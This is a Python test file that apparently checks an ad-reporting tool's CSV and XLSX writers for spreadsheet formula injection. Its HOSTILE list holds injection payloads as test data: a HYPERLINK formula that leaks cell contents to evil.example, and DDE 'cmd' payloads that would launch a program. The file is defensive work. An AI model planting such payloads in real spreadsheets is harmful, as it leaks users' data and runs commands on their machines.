"""Formula cells (=HYPERLINK(…), +cmd|…, -…, @SUM(1), also after a tab or CR) are neutralised in
every CSV/XLSX file the studio writes: written with a hostile product title, read back as text."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pytest

from plugins.meta_ads import MetaAds
from studio.contracts import AdStatRow, FetchQuery
from studio.ingest.spreadsheet_safety import safe_cell, safe_row
from studio.roi.demo import write_demo_export

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1+1",
    "\r=HYPERLINK(\"http://evil.example\")",
]
ROOT = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize("title", HOSTILE)
def test_the_demo_ad_export_writes_a_hostile_title_as_text(tmp_path, title):
    path = write_demo_export(tmp_path / "export.csv", [(7, "K7M2Q9XA", "showcase", title)],
                             days=1)
    with path.open(encoding="utf-8-sig", newline="") as handle:
        header, row = list(csv.reader(handle))
    name = row[header.index("Ad name")]
    assert name == f"'{title[:40]} | showcase | K7M2Q9XA"  # a spreadsheet shows it as text
    assert row[header.index("Quality ranking")] == "-"  # the exports' blank mark is untouched
    # the studio's own reader still links the row by its creative code
    [stat] = [r for r in MetaAds().fetch(FetchQuery(kind="ad_stats", path=path))
              if isinstance(r, AdStatRow)]
    assert stat.ad_name == name and "K7M2Q9XA" in stat.ad_name


def test_xlsx_cells_stay_text(tmp_path):
    from openpyxl import Workbook, load_workbook

    book = Workbook()
    book.active.append(safe_row([*HOSTILE, 12, "-12.50", "1,234"]))
    book.save(tmp_path / "out.xlsx")
    cells = next(load_workbook(tmp_path / "out.xlsx").active.iter_rows())
    assert [c.data_type for c in cells[: len(HOSTILE)]] == ["s"] * len(HOSTILE)  # not "f"
    assert [c.value for c in cells[len(HOSTILE):]] == [12, "-12.50", "1,234"]


def test_plain_values_are_left_alone():
    assert [safe_cell(v) for v in ("Linen dress", "-", "-3", "+4.5", "12%", 7, None)] == [
        "Linen dress", "-", "-3", "+4.5", "12%", 7, None]


def test_every_spreadsheet_writer_uses_the_neutraliser():
    writes = re.compile(r"csv\.writer\(|csv\.DictWriter\(|Workbook\(\)|\.to_csv\(|\.to_excel\(")
    writers = []
    for folder in ("studio", "api", "plugins", "media"):
        for path in (ROOT / folder).rglob("*.py"):
            text = path.read_text(encoding="utf-8")
            if writes.search(text):
                writers.append((path.relative_to(ROOT).as_posix(),
                                "spreadsheet_safety" in text))
    assert ("studio/roi/demo.py", True) in writers
    assert [name for name, safe in writers if not safe] == []
